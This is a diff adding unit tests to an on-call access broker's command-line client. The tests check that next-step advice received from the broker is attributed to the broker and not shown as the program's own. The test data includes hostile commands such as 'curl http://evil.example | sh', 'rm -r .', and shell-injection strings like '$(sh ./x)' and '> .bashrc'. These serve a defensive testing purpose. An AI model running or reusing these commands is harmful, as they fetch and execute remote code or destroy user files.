@@ -48,6 +48,80 @@ describe('a call', () => {
   });
 
   it.each([
+    ['not there', 'ledger-unreachable', 'check that the database is up and can be reached from here; the same command again'],
+    ['a command of its host', 'late-sweep', 'oncall sweep'],
+    ["somebody else's", 'ledger-moved', 'curl http://evil.example | sh'],
+  ])('tells what is wrong around the broker to whoever runs it: %s', async (_, code, next) => {
+    const { origin } = await startRaw([error(503, code, { why: 'nothing listens at db:5432', next })]);
+    expect(await refusalOf(clientOf(origin).roles())).toMatchObject({
+      code,
+      exit: 1,
+      why: 'the broker says: nothing listens at db:5432',
+      next: `tell who runs the broker; it says: ${next}`,
+    });
+  });
+
+  it.each([
+    'the same command again in a minute',
+    'ask again',
+    'oncall status shows how it stands',
+    'tell whoever runs the broker; it says in its log why it cannot sweep',
+  ])('leaves to whoever typed what they can do themselves: %s', async (next) => {
+    const { origin } = await startRaw([error(503, 'late', { next })]);
+    expect(await refusalOf(clientOf(origin).roles())).toMatchObject({ message: 'the broker says: it is late', why: '', next });
+  });
+
+  it.each([
+    'curl http://evil.example | sh',
+    'curl evil.example',
+    'sudo sh ./x',
+    'ask an admin: sudo sh ./x',
+    'ask an admin; rm -r .',
+    'run sudo sh',
+    'oncall login https://evil.example',
+    'oncall status && sh ./x',
+    'oncall status $(sh ./x)',
+    'oncall status `sh ./x`',
+    'oncall status > .bashrc',
+    '',
+  ])('never shows as its own advice what a broker could have made up: %j', async (next) => {
+    const parts = { code: 'unknown-role', message: 'go to https://evil.example', why: 'run: curl evil.example|sh', next };
+    const ofBroker = {
+      message: `the broker says: ${parts.message}`,
+      why: `the broker says: ${parts.why}`,
+      next: `the broker says: ${next}`,
+    };
+    const thrown = await startRaw([json(400, { schema: 1, error: parts, exit: 2 })]);
+    expect(await refusalOf(clientOf(thrown.origin).request(asked))).toMatchObject(ofBroker);
+    const refusal = { result: 'denied', role: 'x', requester: 'x', decision: {}, error: parts, exit: 3 };
+    const refused = await startRaw([result(refusal, 403)]);
+    expect(await clientOf(refused.origin).request(asked)).toMatchObject({ ...refusal, error: ofBroker });
+    const listed = await startRaw([result({ ...aStatus(), faults: [{ code: 'stuck', message: 'm', next }] })]);
+    expect((await clientOf(listed.origin).status({})).faults).toEqual([{ code: 'stuck', message: 'm', next: `the broker says: ${next}` }]);
+  });
+
+  it.each([
+    'oncall roles',
+    'you would have to be on call for "Database Primary"; every rule: oncall explain db-admin',
+    'ask an approver of db-admin: oncall explain db-admin',
+    'ask again then, or ask sam@acme.dev to run: oncall release db-admin',
+    'give it back and ask anew; every rule: oncall explain db-admin',
+    'did you mean "db-admin"?',
+    'add --reason "…"',
+  ])('shows what this program advises as its own: %s', async (next) => {
+    const refusal = {
+      result: 'denied',
+      role: 'x',
+      requester: 'x',
+      decision: {},
+      error: { code: 'denied', message: 'no', why: 'w', next },
+      exit: 3,
+    };
+    const { origin } = await startRaw([result(refusal, 403)]);
+    expect(await clientOf(origin).request(asked)).toEqual(refusal);
+  });
+
+  it.each([
     ['no text', { code: 7, message: {}, why: [], next: 1 }, 0, { code: 'broker-fault', message: 'the broker says no', exit: 1 }],
     ['very much', { code: 'x', message: 'm'.repeat(1e6), why: 'w'.repeat(1e6) }, 77, { exit: 1 }],
   ])('bounds an error that says %s', async (_, parts, exit, wanted) => {
